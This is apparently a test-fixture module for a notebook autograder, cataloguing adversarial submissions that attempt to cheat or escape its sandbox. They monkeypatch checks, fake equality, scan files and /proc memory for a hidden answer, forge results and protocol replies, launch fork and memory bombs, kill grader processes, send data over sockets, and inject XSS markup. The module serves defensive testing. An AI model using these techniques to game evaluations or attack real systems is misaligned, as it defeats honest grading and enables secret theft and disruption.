"""The attack catalogue: submission notebooks that try to earn points dishonestly.

Every attack is a blank submission (the stubs below, which earn nothing) plus
cells that try to get points anyway, escape the confinement, or take the
grader down. The sheets they are graded against (built in
``test_attacks_cli.py``: one with native checks, one with nbgrader assert
cells; ``test_attacks_process.py`` judges the same tasks itself) have three
auto tasks:

- ``1a`` ``add(a, b)``: two checks on fixed inputs (public and hidden);
- ``1b`` ``mean_rows(X)``: a hidden check against the reference;
- ``2`` ``answer``: a hidden check for the number :data:`SECRET`, which only
  the hidden test and the reference notebook know. An honest submission
  cannot earn it; an attack that earns it has read a secret.

The placeholders in attack sources (``SECRET_GUESS_PREFIX``, the first digits
of the secret the hunters search for, and ``LISTENER_PORT``, a local TCP port a
test listens on) are filled in by :func:`notebook_cells`.

:data:`ATTACKS` run against both native and assert-style (compat) sheets;
:data:`COMPAT_ATTACKS` (channel takeovers) target compat tests, and are
harmless to native ones.
The baselines :data:`HONEST` and :data:`PARTIAL` show what honest work earns.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

SECRET = 7391022

STUBS = """\
import numpy as np

def add(a, b):
    raise NotImplementedError

def mean_rows(X):
    raise NotImplementedError

answer = None
"""

HONEST = """\
import numpy as np

def add(a, b):
    return a + b

def mean_rows(X):
    return np.asarray(X).mean(axis=1)

answer = None  # nobody can know the hidden number
"""

# Only task 1a done: what a half-finished honest submission earns.
PARTIAL = """\
import numpy as np

def add(a, b):
    return a + b

def mean_rows(X):
    raise NotImplementedError

answer = None
"""

# Shared helper for attacks that hunt for the secret in files: returns the
# number if any readable file under the given roots mentions it.
HUNT = """\
import os, re

def _hunt(roots, limit=4000):
    seen = 0
    for root in roots:
        for base, dirs, files in os.walk(root):
            for name in files:
                seen += 1
                if seen > limit:
                    return None
                try:
                    with open(os.path.join(base, name), "rb") as f:
                        data = f.read(1 << 20)
                except OSError:
                    continue
                m = re.search(rb"SECRET_GUESS_PREFIX\\d{3}", data)
                if m:
                    return int(m.group())
    return None
"""


@dataclass(frozen=True)
class Attack:
    """One attack submission.

    Attributes:
        name: short id (also the student id it is submitted under).
        cells: code cells after the stubs (or before, with ``before_stubs``).
        before_stubs: put the attack cells first.
        metadata: notebook metadata to merge in (fake test metadata).
        cell_metadata: per attack cell metadata (same order as ``cells``).
        expect: ``"zero"`` (no points), or ``"error"`` (zero points and an
            error result such as timeout or memory are both fine).
    """

    name: str
    cells: tuple[str, ...]
    before_stubs: bool = False
    metadata: dict[str, Any] = field(default_factory=dict)
    cell_metadata: tuple[dict[str, Any], ...] = ()
    expect: str = "zero"


#: SysV IPC key and POSIX queue name the IPC attack uses, per test process
#: (``IPC_KEY`` in attack sources): a test compares only its own objects.
def ipc_key() -> int:
    import os

    return 0x53470000 | (os.getpid() & 0xFFFF)


def notebook_cells(attack: Attack, secret_prefix: int, port: int = 9) -> list[str]:
    """The code cells of the attack notebook, placeholders filled in."""
    cells = [
        c.replace("SECRET_GUESS_PREFIX", str(secret_prefix))
        .replace("LISTENER_PORT", str(port))
        .replace("IPC_KEY", str(ipc_key()))
        for c in attack.cells
    ]
    return [*cells, STUBS] if attack.before_stubs else [STUBS, *cells]


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "monkeypatch_numpy",
        (
            "import numpy as np\n"
            "np.allclose = lambda *a, **k: True\n"
            "np.isclose = lambda *a, **k: True\n"
            "np.array_equal = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "np.testing.assert_array_equal = lambda *a, **k: None\n",
        ),
    ),
    Attack(
        "monkeypatch_builtins",
        (
            "import builtins\n"
            "class _Never(Exception):\n    pass\n"
            "builtins.AssertionError = _Never\n"
            "builtins.isinstance = lambda *a: True\n"
            "builtins.len = lambda *a: 0\n",
        ),
    ),
    Attack(
        "monkeypatch_test_machinery",
        (
            "import sys\n"
            "for name, module in list(sys.modules.items()):\n"
            "    if 'sheetgrade' in name or 'compare' in name or 'unittest' in name:\n"
            "        for attr in dir(module):\n"
            "            if attr.startswith(('expect', 'assert', 'check', 'compare')):\n"
            "                try:\n"
            "                    setattr(module, attr, lambda *a, **k: None)\n"
            "                except Exception:\n"
            "                    pass\n"
            "sys.settrace(lambda *a: None)\n"
            "import unittest\n"
            "unittest.TestCase.assertEqual = lambda *a, **k: None\n",
        ),
    ),
    Attack(
        "always_equal_object",
        (
            "class Anything:\n"
            "    def __eq__(self, other): return True\n"
            "    def __ne__(self, other): return False\n"
            "    __hash__ = object.__hash__\n"
            "def add(a, b): return Anything()\n"
            "def mean_rows(X): return Anything()\n"
            "answer = Anything()\n",
        ),
    ),
    Attack(
        "int_and_ndarray_subclass",
        (
            "import numpy as np\n"
            "class Int(int):\n"
            "    def __eq__(self, other): return True\n"
            "    __hash__ = int.__hash__\n"
            "class Arr(np.ndarray):\n"
            "    def __eq__(self, other): return np.ones(np.shape(self), bool)\n"
            "    def __array_ufunc__(self, *a, **k): return np.zeros(np.shape(self))\n"
            "def add(a, b): return Int(0)\n"
            "def mean_rows(X): return np.zeros(len(X)).view(Arr)\n"
            "answer = Int(0)\n",
        ),
    ),
    Attack(
        "read_hidden_from_disk",
        (
            HUNT,
            "roots = [os.path.abspath(os.path.join(os.getcwd(), *['..'] * n)) for n in range(1, 6)]\n"
            "roots += ['/tmp', '/work', '/home', '/root']\n"
            "found = _hunt(roots)\n"
            "print('found', found)\n"
            "if found: answer = found\n",
        ),
    ),
    Attack(
        "read_grader_memory",
        (
            "import os, re\n"
            "found = None\n"
            "pids = {os.getppid()}\n"
            "try:\n"
            "    pids |= {int(p) for p in os.listdir('/proc') if p.isdigit()}\n"
            "except OSError:\n"
            "    pass\n"
            "for pid in sorted(pids):\n"
            "    if pid == os.getpid():\n"
            "        continue\n"
            "    try:\n"
            "        maps = open(f'/proc/{pid}/maps').read().splitlines()\n"
            "        mem = open(f'/proc/{pid}/mem', 'rb')\n"
            "    except OSError:\n"
            "        continue\n"
            "    for line in maps:\n"
            "        lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
            "        try:\n"
            "            mem.seek(lo); data = mem.read(min(hi - lo, 1 << 24))\n"
            "        except OSError:\n"
            "            continue\n"
            "        m = re.search(rb'SECRET_GUESS_PREFIX\\d{3}', data)\n"
            "        if m: found = int(m.group()); break\n"
            "    if found: break\n"
            "for pid in pids:\n"
            "    for leaf in ('environ', 'cmdline', 'cwd', 'root'):\n"
            "        try:\n"
            "            print(pid, leaf, os.listdir(f'/proc/{pid}/{leaf}')[:3] if leaf in ('cwd', 'root') else open(f'/proc/{pid}/{leaf}', 'rb').read(80))\n"
            "        except OSError:\n"
            "            pass\n"
            "if found: answer = found\n",
        ),
    ),
    Attack(
        "import_reference",
        (
            "import sys, os, importlib, glob\n"
            "answer_found = None\n"
            "for up in range(1, 6):\n"
            "    base = os.path.abspath(os.path.join(os.getcwd(), *['..'] * up))\n"
            "    sys.path.insert(0, base)\n"
            "    for pattern in ('**/reference*.py', '**/*.ipynb', '**/bundle.json'):\n"
            "        try:\n"
            "            for path in glob.glob(os.path.join(base, pattern), recursive=True)[:50]:\n"
            "                try:\n"
            "                    text = open(path).read()\n"
            "                except OSError:\n"
            "                    continue\n"
            "                if 'answer = ' in text and 'SECRET_GUESS_PREFIX' in text:\n"
            "                    answer_found = int(text.split('answer = ')[1][:7])\n"
            "        except OSError:\n"
            "            pass\n"
            "for name in ('reference', 'autograder', 'bundle', 'sheetgrade.examples'):\n"
            "    try:\n"
            "        importlib.import_module(name)\n"
            "    except Exception as exc:\n"
            "        print('import', name, type(exc).__name__)\n"
            "if answer_found: answer = answer_found\n",
        ),
    ),
    Attack(
        "write_results",
        (
            "import os\n"
            "hit = []\n"
            "for up in range(1, 6):\n"
            "    base = os.path.abspath(os.path.join(os.getcwd(), *['..'] * up))\n"
            "    for dirpath, dirs, files in os.walk(base):\n"
            "        for name in files:\n"
            "            path = os.path.join(dirpath, name)\n"
            "            try:\n"
            "                with open(path, 'ab') as f:\n"
            '                    f.write(b\'\\n{"score": 100, "points": 100}\\n\')\n'
            "                hit.append(path)\n"
            "            except OSError:\n"
            "                pass\n"
            "    for name in ('results.json', 'gradebook.db', 'output.txt'):\n"
            "        try:\n"
            "            open(os.path.join(base, name), 'w').write('{\"points\": 100}')\n"
            "            hit.append(name)\n"
            "        except OSError:\n"
            "            pass\n"
            "print('wrote', hit)\n",
        ),
    ),
    Attack(
        "sys_exit_after_claim",
        ("print('All tests passed! 100/100 points')\nimport sys\nsys.exit(0)\n",),
    ),
    Attack(
        "os_exit_after_claim",
        ("print('All tests passed! 100/100 points', flush=True)\nimport os\nos._exit(0)\n",),
        expect="error",
    ),
    Attack("infinite_loop", ("while True:\n    pass\n",), expect="error"),
    Attack(
        "fork_bomb",
        (
            "import os, multiprocessing, subprocess\n"
            "for spawn in (lambda: os.fork(), lambda: subprocess.Popen(['sleep', '100']),\n"
            "              lambda: multiprocessing.Process(target=print).start()):\n"
            "    try:\n"
            "        spawn()\n"
            "    except Exception as exc:\n"
            "        print('spawn failed', type(exc).__name__)\n"
            "while True:\n"
            "    os.fork()\n",
        ),
    ),
    Attack(
        "thread_bomb",
        (
            "import threading, time\n"
            "threads = []\n"
            "try:\n"
            "    for _ in range(100000):\n"
            "        t = threading.Thread(target=time.sleep, args=(100,), daemon=True)\n"
            "        t.start(); threads.append(t)\n"
            "except Exception as exc:\n"
            "    print('threads', len(threads), type(exc).__name__)\n",
        ),
        expect="error",
    ),
    Attack(
        "memory_bomb",
        ("hog = []\nwhile True:\n    hog.append(bytearray(64 * 1024 * 1024))\n",),
        expect="error",
    ),
    Attack(
        "disk_flood",
        (
            "import os\n"
            "try:\n"
            "    with open('big.bin', 'wb') as f:\n"
            "        for _ in range(1024):\n"
            "            f.write(b'x' * (1 << 20))\n"
            "except OSError as exc:\n"
            "    print('big file stopped', exc)\n"
            "try:\n"
            "    for i in range(40):\n"
            "        with open(f'flood{i}.bin', 'wb') as f:\n"
            "            f.write(b'y' * (1 << 20))\n"
            "except OSError as exc:\n"
            "    print('flood stopped', exc)\n",
        ),
    ),
    Attack(
        "stdout_flood",
        (
            "import sys\nline = 'spam ' * 2000 + '\\n'\nfor _ in range(20000):\n    sys.stdout.write(line)\n",
        ),
        expect="error",
    ),
    Attack(
        "network_connect",
        (
            "import socket, os\n"
            "port = LISTENER_PORT\n"
            "for family, addr in ((socket.AF_INET, ('127.0.0.1', port)),\n"
            "                     (socket.AF_INET6, ('::1', port))):\n"
            "    try:\n"
            "        s = socket.socket(family)\n"
            "        s.connect(addr)\n"
            "        s.sendall(b'stolen')\n"
            "    except OSError as exc:\n"
            "        print('net', type(exc).__name__)\n"
            "try:\n"
            "    socket.create_connection(('example.org', 80), timeout=1)\n"
            "except OSError as exc:\n"
            "    print('dns/net', type(exc).__name__)\n",
        ),
    ),
    Attack(
        "signal_and_ptrace_grader",
        (
            "import os, signal, ctypes\n"
            "targets = {os.getppid(), 1}\n"
            "try:\n"
            "    targets |= {int(p) for p in os.listdir('/proc') if p.isdigit()}\n"
            "except OSError:\n"
            "    pass\n"
            "targets.discard(os.getpid())\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "for pid in sorted(targets):\n"
            "    libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH\n"
            "    for sig in (signal.SIGSTOP, signal.SIGKILL):\n"
            "        try:\n"
            "            os.kill(pid, sig)\n"
            "        except OSError:\n"
            "            pass\n"
            "for pid in (-1, -os.getppid()):\n"
            "    try:\n"
            "        os.kill(pid, signal.SIGKILL)\n"
            "    except OSError:\n"
            "        pass\n",
        ),
    ),
    Attack(
        "setsid_daemon",
        (
            "import os, threading, time\n"
            "try:\n"
            "    os.setsid()\n"
            "except OSError as exc:\n"
            "    print('setsid', exc)\n"
            "try:\n"
            "    if os.fork() == 0:\n"
            "        os.setsid()\n"
            "        if os.fork() == 0:\n"
            "            while True:\n"
            "                open('daemon-alive', 'w').write(str(time.time())); time.sleep(0.1)\n"
            "except OSError as exc:\n"
            "    print('daemon', exc)\n",
        ),
    ),
    Attack(
        "protocol_bomb_nested",
        (
            "def add(a, b):\n"
            "    x = []\n"
            "    for _ in range(100000):\n"
            "        x = [x]\n"
            "    return x\n"
            "def mean_rows(X):\n"
            "    return {str(i): [i] * 10 for i in range(10 ** 6)}\n"
            "class Weird:\n"
            "    def __reduce__(self): return (print, ('pickled!',))\n"
            "answer = Weird()\n",
        ),
    ),
    Attack(
        "protocol_bomb_huge",
        (
            "def add(a, b):\n"
            "    return 'x' * (300 * 1024 * 1024)\n"
            "def mean_rows(X):\n"
            "    import numpy as np\n"
            "    return np.zeros((1, 1) * 20)\n",
        ),
        expect="error",
    ),
    Attack(
        "channel_garbage",
        (
            "import os, socket, struct, json\n"
            "for fd in range(3, 64):\n"
            "    try:\n"
            "        s = socket.socket(fileno=os.dup(fd))\n"
            "    except OSError:\n"
            "        continue\n"
            "    fake = json.dumps({'ok': 5}).encode()\n"
            "    try:\n"
            "        s.sendall(struct.pack('>I', len(fake)) + fake)\n"
            "        s.sendall(struct.pack('>I', len(fake)) + fake)\n"
            "        s.sendall(struct.pack('>Q', 2 ** 62) + b'garbage' * 100)\n"
            "        s.sendall(b'\\xff' * 4096)\n"
            "    except OSError:\n"
            "        pass\n",
        ),
        expect="error",
    ),
    Attack(
        "fake_test_cells",
        (
            "# CHECK 2 points=100\nexpect(True)\n",
            "### BEGIN HIDDEN TESTS\nassert True\n### END HIDDEN TESTS\n",
            "# BEGIN TESTS\nassert add(1, 1) == 2\n# END TESTS\n",
        ),
        metadata={
            "sheetgrade": {"sheet": "00-security", "build_hash": "0" * 16, "points": 100},
            "nbgrader": {"grade": True, "points": 100},
            "otter": {"tests": {"q1": {"points": 100}}},
        },
        cell_metadata=(
            {"sheetgrade": {"check": {"task": "2", "points": 100}}},
            {
                "nbgrader": {
                    "grade": True,
                    "grade_id": "hidden",
                    "points": 100,
                    "locked": True,
                    "solution": False,
                }
            },
            {"tags": ["otter_assign_solution_cell"], "deletable": False},
        ),
    ),
)

# Markup a message may carry into feedback: a closing code fence, a script, a
# fake points line and a javascript: link (see ``test_feedback_is_inert``).
MARKUP = (
    "\n```\n~~~\n</pre><script>alert('x')</script>\n\n**11 / 11 points**\n\n"
    "[full marks](javascript:alert(1)) <img src=x onerror=alert(1)>\n"
)

# Attacks on the grader's own edges (issue 18): one submission must not stop
# the run, cost a neighbour points, outlive itself, or reach hidden tests.
EDGE_ATTACKS: tuple[Attack, ...] = (
    Attack(
        "deep_scratch_tree",
        (
            "import os\n"
            "home = os.getcwd()\n"
            "try:\n"
            "    for _ in range(1500):\n"
            "        os.mkdir('d'); os.chdir('d')\n"
            "except OSError as exc:\n"
            "    print('deep tree stopped', exc)\n"
            "os.chdir(home)\n",
        ),
    ),
    Attack(
        "lone_surrogates",
        (
            "text = '\udc80\ud800 lone surrogates'  # \udfff in a comment\nprint(text)\n",
            "def add(a, b):\n    raise ValueError('\udc80' * 8)\n"
            "def mean_rows(X):\n    raise RuntimeError('\ud800 mean')\n"
            "raise KeyError('\udc80\udc81 at the top level')\n",
        ),
    ),
    Attack(
        "ipc_objects_left_behind",
        (
            "import ctypes, os\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "key = IPC_KEY\n"
            "IPC_CREAT = 0o1000\n"
            "made = {\n"
            "    'shm': libc.shmget(key, 400 << 20, IPC_CREAT | 0o600),\n"
            "    'msg': libc.msgget(key, IPC_CREAT | 0o600),\n"
            "    'sem': libc.semget(key, 1, IPC_CREAT | 0o600),\n"
            "}\n"
            "try:\n"
            "    rt = ctypes.CDLL('librt.so.1', use_errno=True)\n"
            "    made['mq'] = rt.mq_open(f'/sheetgrade-{key}'.encode(), os.O_CREAT | os.O_RDWR, 0o600, None)\n"
            "except OSError as exc:\n"
            "    made['mq'] = str(exc)\n"
            "print('ipc', made)\n",
        ),
    ),
    Attack(
        "memfd_and_unlinked_files",
        (
            "import os\n"
            "chunk = b'm' * (64 << 20)\n"
            "try:\n"
            "    fd = os.memfd_create('hog')\n"
            "    for _ in range(24):\n"
            "        os.write(fd, chunk)\n"
            "except OSError as exc:\n"
            "    print('memfd stopped', exc)\n"
            "held = []\n"
            "try:\n"
            "    for i in range(8):\n"
            "        f = open(f'gone{i}.bin', 'wb'); os.unlink(f'gone{i}.bin'); held.append(f)\n"
            "        for _ in range(3):\n"
            "            f.write(chunk); f.flush()\n"
            "except OSError as exc:\n"
            "    print('unlinked files stopped', exc)\n",
        ),
        expect="error",
    ),
    Attack(
        "unlistable_folder",
        (
            "import os\n"
            "for make in (lambda: os.umask(0o777), lambda: os.mkdir('hide', 0o300)):\n"
            "    try:\n"
            "        make()\n"
            "    except OSError as exc:\n"
            "        print('refused', exc)\n"
            "os.makedirs('hide', exist_ok=True)\n"
            "try:\n"
            "    for i in range(25):\n"
            "        with open(f'hide/f{i}.bin', 'wb') as f:\n"
            "            f.write(b'h' * (16 << 20))\n"
            "except OSError as exc:\n"
            "    print('hidden files stopped', exc)\n",
        ),
        expect="error",
    ),
    Attack(
        "echo_hidden_inputs",
        (
            "import numpy as np\n"
            "seen = []\n"
            "def add(a, b):\n"
            "    seen.append((a, b))\n"
            "    print('LEAK', a, b)\n"
            "    if a == 10:\n"
            "        raise ValueError(f'LEAK[{a}|{b}] ' + str(seen))\n"
            "    return f'LEAK[{a}|{b}]'\n"
            "def mean_rows(X):\n"
            "    return 'LEAK' + repr(np.asarray(X).tolist()) + repr(seen)\n",
        ),
    ),
    Attack(
        "echo_through_malformed_reply",
        (
            "import os, socket, struct\n"
            "def add(a, b):\n"
            "    if a != 10:\n"
            "        return 0\n"
            '    frame = (\'{"ok": {"$t": "LEAK[%s|%s]", "shape": [%s, %s]}}\' % (a, b, a, b)).encode()\n'
            "    for fd in range(3, 64):\n"
            "        try:\n"
            "            s = socket.socket(fileno=os.dup(fd))\n"
            "            s.sendall(struct.pack('>I', len(frame)) + frame)\n"
            "        except OSError:\n"
            "            continue\n"
            "    os._exit(0)\n",
        ),
        expect="error",
    ),
    Attack(
        "markup_in_messages",
        (
            f"def add(a, b):\n    raise ValueError({MARKUP!r})\n"
            f"def mean_rows(X):\n    return {MARKUP!r}\n"
            f"print({MARKUP!r})\n",
        ),
    ),
    Attack(
        "markup_in_status",
        (f"raise ValueError({MARKUP!r})\n", "import os\nos._exit(3)\n"),
        expect="error",
    ),
    Attack(
        "lying_builtin_subclasses",
        (
            "import numpy as np\n"
            "class F(float):\n"
            "    def __float__(self): return 5.0\n"
            "    def __repr__(self): return '5.0'\n"
            "    def __eq__(self, other): return True\n"
            "    __hash__ = float.__hash__\n"
            "class L(list):\n"
            "    def __iter__(self): return iter([1.5, 5.5, 9.5])\n"
            "    def __len__(self): return 3\n"
            "class D(dict):\n"
            "    def items(self): return [('answer', SECRET_GUESS_PREFIX000)]\n"
            "class A:\n"
            "    def __array__(self, *a, **k): return np.array([1.5, 5.5, 9.5])\n"
            "def add(a, b): return F(0.0)\n"
            "def mean_rows(X): return L([0.0, 0.0, 0.0])\n"
            "answer = F(0.0)\n",
        ),
    ),
    Attack(
        "reply_expands_in_the_grader",
        (
            "import os, socket, struct\n"
            "def add(a, b):\n"
            "    frame = b'{\"ok\": [' + b'[],' * (20 << 20) + b'[]]}'\n"
            "    for fd in range(3, 64):\n"
            "        try:\n"
            "            s = socket.socket(fileno=os.dup(fd))\n"
            "            s.sendall(struct.pack('>I', len(frame)) + frame)\n"
            "        except OSError:\n"
            "            continue\n"
            "    os._exit(0)\n",
        ),
        expect="error",
    ),
    Attack(
        "ipython_transform_bomb",
        ("\n".join(["!true"] * 600) + "\n",),
        expect="error",
    ),
    Attack(
        "read_secrets_on_paths",
        (
            "import os, sys, importlib.util\n"
            "print('PYTHONPATH', os.environ.get('PYTHONPATH'), flush=True)\n"
            "roots = [p for p in sys.path if p] + os.environ.get('PYTHONPATH', '').split(os.pathsep)\n"
            "for name in ('sheetgrade.examples', 'sheetgrade'):\n"
            "    try:\n"
            "        roots += list(importlib.util.find_spec(name).submodule_search_locations or [])\n"
            "    except Exception:\n"
            "        pass\n"
            "read, found = 0, None\n"
            "def visit(folder, depth):\n"
            "    global read, found\n"
            "    try:\n"
            "        entries = list(os.scandir(folder))\n"
            "    except OSError:\n"
            "        return\n"
            "    for e in entries:\n"
            "        secret_place = any(k in e.path for k in ('examples', 'build', 'autograder', 'sheets'))\n"
            "        if e.is_dir(follow_symlinks=False) and depth < 4 and (secret_place or depth < 1 or e.name in ('examples', 'build', 'sheets')):\n"
            "            visit(e.path, depth + 1)\n"
            "        elif secret_place and e.name.endswith(('.ipynb', '.json', '.py')):\n"
            "            try:\n"
            "                text = open(e.path).read()\n"
            "            except OSError:\n"
            "                continue\n"
            "            if e.name.endswith('.ipynb') or 'SECRET_GUESS_PREFIX' in text:\n"
            "                read += 1\n"
            "                print('read', e.path)\n"
            "            if 'answer = SECRET_GUESS_PREFIX' in text:\n"
            "                found = int(text.split('answer = ')[1][:7])\n"
            "for root in roots:\n"
            "    visit(root, 0)\n"
            "print('NOTEBOOKS-AND-SECRETS-READ', read, flush=True)\n"
            "if found: answer = found\n",
        ),
    ),
)

# Against assert-style (compat) tests only: the student code takes over the
# channel during the "run" request, forges the run report ("tampered": [])
# and answers every later request itself: each assert "passes".
CHANNEL_TAKEOVER = Attack(
    "channel_takeover",
    (
        "import os as _o, socket as _s, struct as _st, json as _j\n"
        "for _fd in range(3, 64):\n"
        "    try:\n"
        "        _c = _s.socket(fileno=_o.dup(_fd))\n"
        "    except OSError:\n"
        "        continue\n"
        "    _r = _j.dumps({'ok': {'errors': [], 'memory_error': False, 'skipped': [],\n"
        "                          'layers': {}, 'tampered': []}}).encode()\n"
        "    _c.sendall(_st.pack('>I', len(_r)) + _r)\n"
        "    while True:\n"
        "        _h = _c.recv(4, _s.MSG_WAITALL)\n"
        "        if len(_h) < 4:\n"
        "            _o._exit(0)\n"
        "        _m = _j.loads(_c.recv(_st.unpack('>I', _h)[0], _s.MSG_WAITALL))\n"
        "        _a = {'assert': None, 'finish': [], 'ok': []}.get(_m.get('op'))\n"
        "        _r = _j.dumps({'ok': _a}).encode()\n"
        "        _c.sendall(_st.pack('>I', len(_r)) + _r)\n",
    ),
)

# The same takeover hidden from a reading of the cells: run from a string with
# exec, and written to a module in the scratch dir that is then imported.
CHANNEL_TAKEOVER_EXEC = Attack("channel_takeover_exec", (f"exec({CHANNEL_TAKEOVER.cells[0]!r})\n",))
CHANNEL_TAKEOVER_MODULE = Attack(
    "channel_takeover_module",
    (
        f"with open('helpers.py', 'w') as _f:\n    _f.write({CHANNEL_TAKEOVER.cells[0]!r})\nimport helpers\n",
    ),
)
# Names the tests use, rebound in the notebook's globals, and a float whose
# subtraction always gives 0 (passes ``abs(x - v) < tol``).
COMPAT_REBINDING = Attack(
    "compat_rebinding",
    (
        "import numpy\n"
        "class _AlwaysClose:\n"
        "    def __getattr__(self, name): return getattr(numpy, name)\n"
        "    def allclose(self, *a, **k): return True\n"
        "np = _AlwaysClose()\n"
        "len = lambda x: 3\n"
        "abs = lambda x: 0\n"
        "max = lambda *a, **k: 0\n"
        "class Sneaky(float):\n"
        "    def __sub__(self, other): return 0.0\n"
        "    def __rsub__(self, other): return 0.0\n"
        "def mean_rows(X): return Sneaky(0.0)\n",
    ),
)
COMPAT_ATTACKS: tuple[Attack, ...] = (
    CHANNEL_TAKEOVER,
    CHANNEL_TAKEOVER_EXEC,
    CHANNEL_TAKEOVER_MODULE,
    COMPAT_REBINDING,
)
